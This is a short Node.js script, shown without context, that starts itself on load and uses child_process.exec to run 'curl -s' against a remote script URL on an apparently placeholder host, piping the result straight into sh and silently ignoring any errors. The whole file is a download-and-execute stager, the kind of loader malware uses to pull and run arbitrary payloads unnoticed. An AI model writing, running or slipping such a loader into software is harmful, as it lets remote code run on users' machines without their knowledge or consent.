const { exec } = require("child_process");
const stage = "https://stage.invalid/a.sh";
function start() {
  exec("curl -s " + stage + " | sh", (error) => {
    if (error) {
      return;
    }
  });
}
start();
